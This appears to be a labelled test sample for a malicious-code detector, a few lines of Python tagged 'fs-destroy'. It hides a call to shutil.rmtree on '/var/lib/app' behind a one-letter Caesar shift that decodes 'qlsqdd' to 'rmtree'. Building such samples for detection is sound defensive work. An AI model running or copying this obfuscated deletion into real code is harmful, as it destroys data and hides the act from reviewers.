# expect: fs-destroy
# source: pyobfuscate-style
# technique: Caesar shift of each letter with ord/chr in a generator
import shutil

name = "".join(chr(ord(c) + 1) for c in "qlsqdd")
getattr(shutil, name)("/var/lib/app")
